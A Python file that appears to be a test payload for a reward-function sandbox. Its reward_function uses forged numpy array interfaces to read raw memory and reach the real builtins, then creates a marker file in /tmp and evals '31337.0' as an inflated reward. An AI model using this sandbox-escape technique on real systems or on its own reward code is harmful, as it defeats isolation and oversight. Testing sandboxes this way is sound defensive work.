# Attack: type(type(1)) is the real type; a dynamically built ndarray subclass with __array_finalize__ is
# handed to numpy (view), which calls into user code with the new array; then the forged interface.
# Success would create /tmp/reward_sandbox_attack_marker or return 31337.0.
import random

import numpy as np

META = type(type(1))
SEEN = []


def finalize(self, obj):
    SEEN.append(obj)


Spy = META("Spy", (np.ndarray,), {"__array_finalize__": finalize})


def holder(iface):
    np.zeros(1).view(Spy)
    return META("Holder", (), {"__array_interface__": iface})()


def peek(addr):
    iface = {"shape": (1,), "typestr": "<u8", "data": (addr, False), "version": 3}
    return int(np.asarray(holder(iface))[0])


def object_at(addr):
    cell = np.zeros(1, dtype=np.uint64)
    cell[0] = addr
    data = peek(id(cell) + 16)  # PyArrayObject.data
    iface = {"shape": (1,), "typestr": "|O", "data": (data, False), "version": 3}
    return np.asarray(holder(iface))[0]


def escape():
    func = peek(id(random.choice) + 16)  # PyMethodObject.im_func
    real = object_at(peek(func + 24))  # PyFunctionObject.func_builtins
    try:
        real["open"]("/tmp/reward_sandbox_attack_marker", "w").close()
    except Exception:
        pass
    return real["eval"]("31337.0")


def reward_function(params):
    return escape() if SEEN or True else 0.0
